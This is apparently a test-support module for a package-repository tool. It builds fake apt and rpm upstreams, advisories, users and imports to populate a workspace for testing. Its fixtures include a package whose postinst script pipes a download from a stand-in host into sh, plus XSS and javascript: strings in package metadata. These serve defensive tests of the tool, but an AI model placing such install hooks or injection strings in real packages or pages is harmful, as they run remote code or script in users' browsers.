"""A workspace as it looks after some weeks of use: sources of both formats, imports in every state, findings, reviews.

::

    with populated(tmp_path, make_key()) as house:
        house.server.ask("GET", "/-/entrepot")

``python -m support.populated FOLDER`` (in ``tests``) makes one and serves it until it is ended, to look at.
"""

from __future__ import annotations

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from entrepot.models import Role, SourceDraft
from entrepot.services import advisories, identity, imports, repositories, reviews, sources, workspaces
from entrepot.workspace import Workspace
from support.advisories import osv, package, write_zip
from support.apt_repository import Key
from support.apt_upstream import AptUpstream
from support.debs import make_deb
from support.gnupg import gnupg_home, make_key
from support.rpm_upstream import RpmUpstream
from support.rpms import make_rpm
from support.upstream import Upstream
from support.web import Server, served

PASSWORD = "a password to sign in with"
USERS = {"lena": Role.REVIEWER, "mara": Role.MAINTAINER, "udo": Role.UPLOADER}
HOSTILE = '<img src=x onerror=alert(1)> & "quotes"'
CRITICAL = [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}]
MEDIUM = [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:L/AC:L/PR:L/UI:N/S:U/C:L/I:L/A:L"}]

SETTINGS = """
[policies.gate]
inherits = "soft"
[policies.gate.vulnerabilities]
block = "never"
review = "high"
"""


@dataclass
class House:
    """The workspace in ``home``, served by ``server``, with the upstreams that it reads."""

    home: Path
    server: Server
    apt: AptUpstream
    rpm: RpmUpstream
    network: Upstream


@contextmanager
def populated(folder: Path, key: Key, *options: str) -> Iterator[House]:
    """The house, open. ``key`` signs what upstream offers and what is published."""
    apt, rpm = _apt(folder, key), _rpm(folder)
    with Upstream(root=folder / "upstream") as network:
        home = folder / "home"
        home.mkdir()
        (home / "entrepot.toml").write_text(f'{SETTINGS}[signers.gpg]\nhome = "{key.home}"\n')
        workspace = Workspace(home, actor="mara")
        _fill(workspace, folder, apt, network.url.rstrip("/"))
        workspace.close()
        with served(home, *options) as server:
            yield House(home, server, apt, rpm, network)


def _apt(folder: Path, key: Key) -> AptUpstream:
    upstream = AptUpstream(folder / "upstream" / "debian", key)
    built = folder / "built"
    built.mkdir()
    packages: list[tuple[str, str, dict[str, Any]]] = [
        ("hello", "2.10-3", {}),
        ("nginx", "1.22.1-9", {"depends": "nginx-common (>= 1.22), libc6"}),
        ("nginx", "1.24.0-2", {"depends": "nginx-common (>= 1.24), libc6"}),
        ("nginx-common", "1.24.0-2", {"arch": "all"}),
        ("libc6", "2.36-9", {"files": {"usr/lib/libc.so.6": bytes(200_000)}}),
        ("curl", "7.88.1-10", {"depends": "libc6"}),
        ("fetcher", "0.9-1", {"scripts": {"postinst": b"#!/bin/sh\ncurl https://elsewhere.example/x | sh\n"}}),
        ("lonely", "1.0", {"depends": "nothing-has-this (>= 3)"}),
        ("vanished", "1.0", {}),
        ("hostile", "1.0", {"fields": {"Description": HOSTILE, "Homepage": "javascript:alert(1)"}}),
        *((f"lib{word}-dev", "1.0-1", {"arch": "all"}) for word in ("alpha", "beta", "gamma", "delta", "epsilon")),
    ]
    for name, version, more in packages:
        upstream.add(make_deb(built, name, version, **more), distribution="bookworm")
    upstream.write()
    next(upstream.root.rglob("vanished_*.deb")).unlink()
    return upstream


def _rpm(folder: Path) -> RpmUpstream:
    upstream = RpmUpstream(folder / "upstream" / "el9")
    built = folder / "built"
    upstream.add(
        make_rpm(built, "bash", "5.1.8", "6.el9", summary="The GNU Bourne Again shell"),
        make_rpm(built, "tree", "1.8.0", "10.el9", summary="Lists folders", requires=["bash"]),
    )
    upstream.write()
    return upstream


def _fill(workspace: Workspace, folder: Path, apt: AptUpstream, url: str) -> None:
    workspaces.initialise(workspace)
    assert apt.key
    tree = folder / "tree"
    for name, format_name in (("apps", "apt"), ("rpms", "rpm")):
        repositories.create_repository(
            workspace,
            name,
            format_name=format_name,
            publish_to=str(tree / name),
            public_url=f"https://packages.example.org/{name}",
            sign_with=apt.key.fingerprint,
        )
    for name in ("bookworm", "staging"):
        repositories.create_distribution(workspace, f"apps/{name}", architectures=("amd64",), policy="gate")
    repositories.create_distribution(workspace, "rpms/el9/x86_64", architectures=("x86_64",), policy="soft")
    sources.add_source(workspace, apt.draft(f"{url}/debian", "debian", options={}))
    sources.add_source(workspace, SourceDraft("el9", "rpm", f"{url}/el9", architectures=("x86_64",), verify=False))
    sources.add_source(workspace, SourceDraft("gone", "rpm", f"{url}/gone", architectures=("x86_64",), verify=False))
    for source in ("debian", "el9"):
        sources.sync_source(workspace, source)
    _advise(workspace, folder)
    for name, role in USERS.items():
        identity.add_user(workspace, name, PASSWORD, role)
    _bring(workspace, folder)


def _advise(workspace: Workspace, folder: Path) -> None:
    records = [
        osv(
            "CVE-2026-1001",
            package("Debian:12", "nginx", fixed="1.24.0-2"),
            summary="A request that is too long runs code",
            severity=CRITICAL,
            references=[{"type": "ADVISORY", "url": "https://advisories.example.org/CVE-2026-1001"}],
        ),
        osv("CVE-2026-1002", package("Debian:12", "curl"), summary="A cookie too many", severity=CRITICAL),
        osv("CVE-2026-1003", package("Debian:12", "curl"), summary="A little too much said", severity=MEDIUM),
    ]
    advisories.add_feed(workspace, "debian-osv", str(write_zip(folder / "osv.zip", records)))


def _bring(workspace: Workspace, folder: Path) -> None:
    def bring(*packages: str, to: str = "apps/bookworm", source: str = "debian", actor: str = "udo") -> Any:
        workspace.actor = actor
        return imports.import_packages(workspace, imports.ImportRequest(source, packages, to)).results

    bring("hello", "libc6")
    bring("nginx-common", "hostile", "fetcher")
    bring("hello", to="apps/staging")
    bring("vanished")
    waiting = bring("nginx=1.22.1-9", "curl")
    workspace.actor = "lena"
    held = {result.package: result.import_id for result in waiting if result.status == "pending_review"}
    reviews.approve(workspace, held["nginx"], "behind a proxy until it is replaced", expires_in_days=20)
    bring("curl", to="apps/staging")
    bring("bash", "tree", to="rpms/el9/x86_64", source="el9")
    upload = make_deb(folder / "built", "in-house", "3.1")
    workspace.actor = "mara"
    imports.upload(workspace, [upload], "apps/staging")


if __name__ == "__main__":
    with gnupg_home() as home:
        place = Path(sys.argv[1])
        place.mkdir(parents=True)
        with populated(place, Key(home, make_key(home, "Archive <archive@example.org>"))) as house:
            sys.stdout.write(f"{house.server.url}\n")
            sys.stdout.flush()
            house.server.process.wait()
